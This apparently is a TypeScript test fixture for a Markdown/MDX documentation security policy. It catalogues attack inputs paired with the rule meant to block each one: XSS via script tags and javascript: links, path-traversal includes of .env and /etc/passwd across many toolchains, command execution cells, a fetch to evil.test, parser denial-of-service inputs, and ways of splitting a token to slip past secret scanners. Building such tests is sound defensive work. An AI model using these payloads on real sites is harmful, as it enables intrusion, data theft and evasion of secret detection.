import type { Edits } from './tricks.ts';

/**
 * Tricks that an attack on the policy found or tried: name, rule, what stands in a page of Markdown.
 * The parenthesis names who acts on it.
 */
export const ATTACKS: [string, string, string][] = [
  ['a lone carriage return (all)', 'markup', 'a ` b\r\r<script>alert(1)</script>\r\rc ` d'],
  [
    'a fence of carriage returns (all)',
    'script',
    '```\ra\r```\r\r<script>alert(1)</script>\r\r```\ra\r```',
  ],
  [
    'a tag with a control character (Python-Markdown)',
    'markup',
    '<scr\u0002ipt>alert(1)</scr\u0002ipt>',
  ],
  ['an import with a comment (MDX)', 'mdx-code', 'import x/**/from "./evil.js"'],
  ['an import by a name in another alphabet (MDX)', 'mdx-code', 'import é from "./evil.js"'],
  ['an import of text (MDX)', 'mdx-code', 'import x from "!!raw-loader!../../.env"'],
  ['an export of a list (MDX)', 'mdx-code', 'export {default} from "./evil.js"'],
  ['raw HTML of Pandoc', 'markup', '`<script>alert(1)</script>`{=html}'],
  ['a raw code block of Pandoc', 'mdx-code', '```{=html}\n<script>alert(1)</script>\n```'],
  ['a cell of Quarto', 'mdx-code', '```{r}\nsystem("id")\n```'],
  ['a cell of MyST', 'mdx-code', '```{code-cell} python\nimport os\n```'],
  ['a role of MyST that runs', 'mdx-code', '{eval}`__import__("os").system("id")`'],
  ['a role of MyST that is raw', 'mdx-code', '{raw-html}`<b onclick=alert(1)>`'],
  ['an include of MyST with colons', 'mdx-code', ':::{include} /etc/passwd\n:::'],
  ['a raw directive of MyST with colons', 'mdx-code', ':::{raw} html\nx\n:::'],
  ['a table of MyST from a file', 'mdx-code', '```{csv-table}\n:file: ../../.env\n```'],
  ['a diagram of MyST from a file', 'mdx-code', '```{mermaid} ../../.env\n```'],
  ['a download of MyST', 'embed', '{download}`x <../../.env>`'],
  ['a formula with a link (MathJax)', 'script', '```{math}\n\\href{javascript:alert(1)}{x}\n```'],
  ['a formula in dollars (MathJax)', 'script', '$\\href{javascript:alert(1)}{x}$'],
  ['an include with a space (mdBook)', 'template', '```\n{{ #include /etc/passwd }}\n```'],
  ['a playground (mdBook)', 'template', '{{#playground ../../x.rs}}'],
  ['a template (mdBook)', 'template', '{{#template ../x.md a=b}}'],
  ['an include in a comment (VitePress)', 'template', '<!--@include: ../../.env-->'],
  [
    'an include in a comment in code (VitePress)',
    'template',
    '```\n<!-- @include: ../../.env -->\n```',
  ],
  ['a snippet (VitePress)', 'template', '<<< @/../.env'],
  ['a snippet with a region (VitePress)', 'template', '<<< ./a.js{1,2}#x'],
  ['code of a file (VuePress)', 'template', '@[code](../../.env)'],
  ['an include (VuePress)', 'template', '@include(../../.env)'],
  ['an include (Docsify)', 'template', '[x](//evil.test/x.html ":include")'],
  ['an include (markdown-include)', 'template', '{!/etc/passwd!}'],
  ['an include in code (markdown-include)', 'template', '```\n{!../../.env!}\n```'],
  ['an include (TypeDoc)', 'template', '{@include ../../.env}'],
  ['an embed (Obsidian)', 'template', '![[../../.env]]'],
  ['a transclusion (MultiMarkdown)', 'template', '{{../../.env}}'],
  ['a partial (Markdoc)', 'template', '{% partial file="../../.env" /%}'],
  ['an include (Liquid)', 'template', '{%- include_relative ../../.env -%}'],
  ['a value (Liquid)', 'template', '{{ site.github | jsonify }}'],
  ['a macro (Jinja)', 'template', '{% import "x" as y %}'],
  ['a raw block (Handlebars)', 'template', '{{{ x }}}'],
  ['code of Ruby or EJS', 'template', '<%= `id` %>'],
  ['a file of the build (Docusaurus)', 'embed', '[x](../../.env)'],
  ['a hidden file as an image', 'embed', '![x](./.git/config)'],
  ['a hidden file by its number', 'embed', '[x](../%2eenv)'],
  ['a link through a site alias (Docusaurus)', 'embed', '[x](@site/.env)'],
  ['attributes over lines (kramdown)', 'script', 'x\n{:\nonclick="alert(1)"}'],
  [
    'attributes behind a brace in quotes (Python-Markdown)',
    'script',
    '# x {: title="}" onclick="alert(1)" }',
  ],
  [
    'attributes behind spaces (Python-Markdown)',
    'script',
    `# x {: ${' '.repeat(1_500)}onclick="alert(1)" }`,
  ],
  ['a list of attributes (kramdown)', 'script', '{:a: onclick="alert(1)"}\n\nx\n{:a}'],
  ['text without Markdown (kramdown)', 'script', '{::nomarkdown}<script>alert(1)</script>{:/}'],
  ['a footnote', 'script', 'a[^1]\n\n[^1]: <script>alert(1)</script>'],
  ['a link in a footnote', 'script', 'a[^1]\n\n[^1]: [x](javascript:alert(1))'],
  ['a definition in a quote', 'script', '[x]\n\n> [x]: javascript:alert(1)'],
  ['a definition in brackets', 'script', '[x]\n\n[x]: <javascript:alert(1)> "t"'],
  ['an image of SVG as data', 'script', '![x](data:image/svg+xml;base64,PHN2Zz4=)'],
  ['a link with an entity of a tab', 'script', '[x](java&Tab;script:alert(1))'],
  ['a link behind a control character', 'script', '[x](\u0001javascript:alert(1))'],
  ['a link in a link', 'script', '[a [b](/c)](javascript:alert(1))'],
  ['a scheme before a script', 'script', '[x](feed:javascript:alert(1))'],
  ['a scheme without slashes', 'script', '[x](https:javascript:alert(1))'],
  ['a link of a wiki', 'script', '[[javascript:alert(1)]]'],
  ['an attribute of a link', 'script', '[x](/a){target=_blank onclick=alert(1)}'],
  [
    'a spread with raw HTML',
    'mdx-code',
    '<div {...{dangerouslySetInnerHTML:{__html:"x"}}}>a</div>',
  ],
  ['an escape in an address', 'script', '<a href={"\\x6aavascript:alert(1)"}>x</a>'],
  ['markup in an attribute', 'mdx-code', '<Card icon={<script>alert(1)</script>} />'],
  ['a list of addresses', 'script', '<Card href={["javascript:alert(1)"]} />'],
  ['an environment (Astro)', 'mdx-code', '<Card title={import.meta.env.SECRET} />'],
  ['an environment in braces (Astro)', 'mdx-code', '{import.meta.env.SECRET}'],
  ['an expression that waits (MDX)', 'mdx-code', '{await fetch("//evil.test")}'],
  ['a closing tag with a handler', 'script', '</div onclick=alert(1)>'],
  ['a comment that browsers end', 'script', '<!-- --!><script>alert(1)</script> -->'],
  ['a directive with an address', 'script', ':link[x]{href="javascript:alert(1)"}'],
  ['a diagram that includes (PlantUML)', 'template', '```plantuml\n!include /etc/passwd\n```'],
];

/** Name, rule, text of a whole page. */
export const WHOLE_PAGES: [string, string, string][] = [
  [
    'front matter behind an empty line (Astro)',
    'front-matter',
    '\n---\nhead:\n  - tag: script\n---\n# x\n',
  ],
  [
    'front matter that ends early (gray-matter)',
    'front-matter',
    '---\ntitle: x\n---a: |\n  b\n---\n# x\n',
  ],
  [
    'a text over the end of front matter',
    'front-matter',
    '---\ntitle: "a\n---b\n<script>alert(1)</script>"\n---\n',
  ],
  ['lists nested too deep', 'front-matter', `---\ntitle: ${'['.repeat(30_000)}\n---\n`],
  ['dashes nested too deep', 'front-matter', `---\ntitle:\n  ${'- '.repeat(30_000)}a\n---\n`],
  [
    'more aliases than there are',
    'front-matter',
    `---\ntags: &a [x,x,x,x,x,x,x,x,x]\nid: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nslug: &c [*b,*b,*b,*b,*b,*b,*b,*b]\ntitle: [*c,*c,*c,*c]\n---\n`,
  ],
  [
    'an expression nested too deep',
    'mdx-code',
    `{${'['.repeat(9_000)}fetch("//x")${']'.repeat(9_000)}}\n`,
  ],
];

/** Name, rule, the base beside a page `docs/plain.md`, a new text of that page. */
export const KNOWN_BEFORE: [string, string, Record<string, string>, string][] = [
  [
    'another file in a shortcode',
    'template',
    { 'docs/b.md': '{{< readfile file="a.txt" >}}\n' },
    '{{< readfile file="../../.env" >}}',
  ],
  ['another gist', 'template', { 'docs/b.md': '{{< gist me 1 >}}\n' }, '{{< gist evil 2 >}}'],
  [
    'an address in a shortcode',
    'template',
    { 'docs/b.md': '{{< figure src="/a.png" >}}\n' },
    '{{< figure link="javascript:alert(1)" >}}',
  ],
  [
    'a template in code (Jekyll)',
    'template',
    { 'docs/_config.yml': 'title: a\n' },
    '```\n{% include_relative ../x %}\n```',
  ],
  [
    'a template in a code span (MkDocs macros)',
    'template',
    { 'mkdocs.yml': 'plugins: [macros]\n' },
    '`{{ config }}`',
  ],
];

/** Name, rule, edits. */
export const ODD_FILES: [string, string, Edits][] = [
  [
    'an image that is a script',
    'binary',
    { 'docs/plain.md': '![a](a.gif)\n', 'docs/a.gif': 'GIF89a=1;alert(1)//' },
  ],
  [
    'an image of letters',
    'binary',
    { 'docs/plain.md': '![a](a.webp)\n', 'docs/a.webp': 'RIFFaaaaWEBP<script>1</script>' },
  ],
  ['a name that Windows keeps', 'unsafe-path', { 'docs/aux.md': '# a\n' }],
  ['a folder that Windows keeps', 'unsafe-path', { 'docs/CON/a.md': '# a\n' }],
  ['a sign that Windows refuses', 'unsafe-path', { 'docs/a?.md': '# a\n' }],
  ['a quote in a name', 'unsafe-path', { 'docs/a".md': '# a\n' }],
  ['a secret in a name', 'secret', { 'docs/ghp_q7Zp2Lx9Vb4Nc8Wd1Kf6Tg3Hj5Rm0SyAuEoI.md': '# a\n' }],
];

const TOKEN = 'ghp_q7Zp2Lx9Vb4Nc8Wd1Kf6Tg3Hj5Rm0SyAuEoI';
const [HEAD, TAIL] = [TOKEN.slice(0, 14), TOKEN.slice(14)];

/** Pieces of a secret that a reader or a program joins: name, text. */
export const PIECES: [string, string][] = [
  ['a comment', `${HEAD}<!-- x -->${TAIL}`],
  ['a comment of MDX', `${HEAD}{/* x */}${TAIL}`],
  ['an invisible space', `${HEAD}\u200b${TAIL}`],
  ['a soft hyphen', `${HEAD}&shy;${TAIL}`],
  ['a tag', `${HEAD}<wbr>${TAIL}`],
  ['marks', `${HEAD}**${TAIL}**`],
  ['an escape', TOKEN.replace('_', '\\_')],
  ['a reference', TOKEN.replace('_', '&#95;')],
  ['a name', TOKEN.replace('_', '&lowbar;')],
  ['two texts of a program', `"${HEAD}" + "${TAIL}"`],
  ['two texts in two lines', `'${HEAD}' \\\n  '${TAIL}'`],
  ['code spans', `\`${HEAD}\`\`${TAIL}\``],
];
